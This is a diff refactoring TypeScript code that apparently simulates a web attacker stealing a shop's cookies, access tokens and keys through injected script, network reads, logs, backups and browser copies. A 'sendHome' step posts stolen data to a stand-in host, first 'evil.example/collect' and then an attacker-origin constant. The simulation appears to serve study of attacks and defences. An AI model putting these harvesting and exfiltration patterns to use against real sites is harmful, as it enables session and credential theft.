@@ -5,10 +5,8 @@ import { encodeUtf8 } from '#text/utf8';
 import type { Attack, Grant, Hands } from './attack';
 import { loadImage, navigate, openFrame, setTab, submitForm, tabAt, type Place } from '../browser/browser';
 import { ISSUER } from '../shop/access-token';
-import { bearerFields } from '../shop/bearer';
-import { bareCookie } from '../shop/cookie-draft';
-import { cookiesIn, credentialsIn, heldByScript, tokensIn } from './credentials-in';
 import { issueToken } from './issue-token';
+import { cookiesIn, knownCredentials } from './known-credentials';
 import { answerInClear, openInClear } from './on-the-network';
 import { preparedBy } from './prepared-by';
 import type { Stolen } from './stolen';
@@ -16,47 +14,17 @@ import { learnedAt, learnedFrom } from '../browser/learned';
 import { openPage } from '../browser/page';
 import { fetchCode, logInAtShop, takeCode } from '../browser/partner-login';
 import { allowsInlineScript } from '../browser/page-policy';
-import { defencesOn, protect } from '../defences';
-import { credentialCalled, type Mode, type NamedCredential } from '../mode';
-import type { OwnField } from '../shop/server';
+import { defencesOn } from '../defences';
+import { carrierOf, type NamedCredential } from '../named-credential';
 import type { TabId } from '../run/party';
-import { BILLING_ORIGIN, ORIGIN } from '../origins';
+import { ATTACKER_ORIGIN, BILLING_ORIGIN, ORIGIN } from '../origins';
 import { alicesPassword } from '../shop/alices-password';
 import { ATTACKER_NAME, ATTACKER_PASSWORD, USERNAME } from '../shop/shop';
-import type { Setup } from '../run/setup';
 import type { Stage } from '../run/stage';
 import type { Happening } from '../run/trace';
-import { ACCESS_TOKEN } from '../shop/token-mode';
 
 const VICTIM_SHOP: Place = { userAgent: 'victim', tab: 'shop' };
 const FRAME: Place = { userAgent: 'victim', tab: 'frame' };
-
-/** @param inCookie the shop takes access tokens from a cookie, whose name everybody can see at their own login */
-const fieldsOf = (
-  stolen: readonly Stolen[],
-  inCookie: boolean,
-  setup: Setup,
-  ownField: OwnField | undefined,
-): Fields => {
-  const { value: token, name } = stolen.find((each) => each.type === 'token') ?? {};
-  const placed: readonly Stolen[] =
-    token !== undefined && inCookie
-      ? [{ type: 'cookie', name: protect(bareCookie(ACCESS_TOKEN, ''), setup).name, value: token }, ...stolen]
-      : stolen;
-  const cookies = placed.flatMap((each) => (each.type === 'cookie' ? [`${each.name}=${each.value}`] : []));
-  return [
-    ...(inCookie
-      ? []
-      : ownField && token !== undefined && name === ownField.keptAs
-        ? [[ownField.field, token] as const]
-        : bearerFields(token)),
-    ...(cookies.length > 0 ? [['Cookie', cookies.join('; ')] as const] : []),
-  ];
-};
-
-/** What a request in a log is good for: where it went, and with what. */
-const lineOf = (request: HttpRequest, mode: Mode): string =>
-  JSON.stringify([request.method, request.url, credentialsIn(request, mode)]);
 
 /**
  * The hands for one attack.
@@ -69,7 +37,7 @@ export const giveHands = (
   meanwhile: (id: string) => Promise<void>,
 ): Hands => {
   const { setup, mode } = stage;
-  const hasToken = credentialCalled(mode, 'access token', setup) !== undefined;
+  const known = knownCredentials(mode, setup);
   const need = (grant: Grant) => {
     if (!attack.grants.includes(grant)) throw new Error(`${attack.id} was not granted ${grant}.`);
   };
@@ -102,9 +70,21 @@ export const giveHands = (
     return place;
   };
 
+  /** All that a browser holds of the shop's. */
+  const heldAt = (place: Place): Stolen[] => {
+    const { jar, localStorage } = stage.world().userAgents[place.userAgent];
+    const { memory, sessionStorage } = tabAt(stage, place);
+    const cookies = jar.filter(({ domain }) => domain === new URL(ORIGIN).host);
+    return [
+      ...cookies.map(({ name, value }): Stolen => ({ type: 'cookie', name, value })),
+      ...[memory, localStorage[ORIGIN] ?? {}, sessionStorage].flatMap((values) => known.among(values)),
+    ];
+  };
+
   return {
     mode,
     setup,
+    known,
     note: (says, made) => {
       stage.add({ type: 'attacker', says, ...(made ? { took: made } : {}) });
     },
@@ -112,7 +92,7 @@ export const giveHands = (
     replay: async (stolen, method, path, content, contentType = 'application/json') => {
       const fields: Fields = [
         ...(content === undefined ? [] : [['Content-Type', contentType] as const]),
-        ...fieldsOf(stolen, hasToken && mode.carrier(setup) === 'cookie', setup, mode.ownField),
+        ...known.toSend(stolen),
       ];
       // Anyone with the page's key prepares a request as the page does.
       if (!stolen.some(({ type }) => type === 'key')) return send(method, path, fields, content);
@@ -181,7 +161,7 @@ export const giveHands = (
             page.read('localStorage', name, 'The injected script reads localStorage.');
           for (const name of Object.keys(sessionStorage))
             page.read('sessionStorage', name, 'The injected script reads sessionStorage.');
-          return [...cookiesIn(cookies), ...tokensIn(held, mode), ...tokensIn(sessionStorage, mode)];
+          return [...cookiesIn(cookies), ...known.among(held), ...known.among(sessionStorage)];
         },
         prepareAhead: (method, url, fields, seconds) =>
           preparedBy(
@@ -191,7 +171,7 @@ export const giveHands = (
             learnedAt(stage, VICTIM_SHOP),
           ),
         sendHome: async (text) => {
-          await page.send('POST', 'https://evil.example/collect', [], text, {
+          await page.send('POST', `${ATTACKER_ORIGIN}/collect`, [], text, {
             mode: 'no-cors',
             credentials: 'omit',
           });
@@ -248,7 +228,7 @@ export const giveHands = (
       took(
         'log',
         'The billing service keeps the credential that it received.',
-        seen.flatMap((request) => credentialsIn(request, mode)),
+        seen.flatMap((request) => known.inRequest(request)),
       );
       return seen.toReversed();
     },
@@ -265,7 +245,7 @@ export const giveHands = (
       need('the network');
       const request = await openInClear(stage, path);
       if (request)
-        took('network', 'The attacker reads the request on the network.', credentialsIn(request, mode));
+        took('network', 'The attacker reads the request on the network.', known.inRequest(request));
       return request;
     },
     answerInClear: async (path, setCookies) => {
@@ -279,16 +259,17 @@ export const giveHands = (
           ? [event.request]
           : [],
       );
-      const logged = requests.filter((request) => credentialsIn(request, mode).length > 0).toReversed();
+      const logged = requests.filter((request) => known.inRequest(request).length > 0).toReversed();
       // The same credential is in many lines.
+      const goodFor = (line: HttpRequest) => JSON.stringify([line.method, line.url, known.inRequest(line)]);
       const lines = logged.filter(
-        (request, at) => logged.findIndex((each) => lineOf(each, mode) === lineOf(request, mode)) === at,
+        (line, at) => logged.findIndex((each) => goodFor(each) === goodFor(line)) === at,
       );
       if (lines.length > 0) {
         took(
           'log',
           'The attacker reads the log.',
-          lines.flatMap((line) => credentialsIn(line, mode)),
+          lines.flatMap((line) => known.inRequest(line)),
         );
       }
       return lines;
@@ -312,33 +293,18 @@ export const giveHands = (
       took(
         'backup',
         'The attacker reads the backup of the database.',
-        rows.flatMap(([called, values]) => {
-          const name = credentialCalled(mode, called, setup)?.cookie;
-          if (name !== undefined) return values.map((value): Stolen => ({ type: 'cookie', name, value }));
-          return mode.ownField?.carries === called ? values.map((value) => heldByScript(value, mode)) : [];
-        }),
+        rows.flatMap(([called, values]) => values.flatMap((value) => known.as(called, value) ?? [])),
       );
       return server;
     },
     copy: () => {
       need('a copy of the browser');
-      const { jar, localStorage } = stage.world().userAgents.victim;
-      const { memory, sessionStorage } = tabAt(stage, VICTIM_SHOP);
-      const cookies = jar
-        .filter(({ domain }) => domain === new URL(ORIGIN).host)
-        .map(({ name, value }): Stolen => ({ type: 'cookie', name, value }));
       // Tokens in cookies are bound to none.
-      const bound = mode.carrier(setup) === 'bearer' ? defencesOn(setup) : [];
+      const bound = carrierOf(mode, setup) === 'bearer' ? defencesOn(setup) : [];
       const keys = bound.flatMap(({ pageKey: value }): Stolen[] =>
         value === undefined ? [] : [{ type: 'key', value }],
       );
-      const copied = [
-        ...cookies,
-        ...tokensIn(memory, mode),
-        ...tokensIn(localStorage[ORIGIN] ?? {}, mode),
-        ...tokensIn(sessionStorage, mode),
-        ...keys,
-      ];
+      const copied = [...heldAt(VICTIM_SHOP), ...keys];
       took(
         'browser',
         keys.length > 0
@@ -350,16 +316,9 @@ export const giveHands = (
     },
     ownAccount: async () => {
       need('an account');
-      const page = openPage(stage, { userAgent: 'attacker', tab: 'shop' });
-      await mode.script.logIn(page, ATTACKER_NAME, ATTACKER_PASSWORD);
-      const { jar, localStorage } = stage.world().userAgents.attacker;
-      const { memory, sessionStorage } = tabAt(stage, { userAgent: 'attacker', tab: 'shop' });
-      return [
-        ...jar.map(({ name, value }): Stolen => ({ type: 'cookie', name, value })),
-        ...tokensIn(memory, mode),
-        ...tokensIn(localStorage[ORIGIN] ?? {}, mode),
-        ...tokensIn(sessionStorage, mode),
-      ];
+      const place: Place = { userAgent: 'attacker', tab: 'shop' };
+      await mode.script.logIn(openPage(stage, place), ATTACKER_NAME, ATTACKER_PASSWORD);
+      return heldAt(place);
     },
     otherToken: async (special) => {
       need('a token for another use');
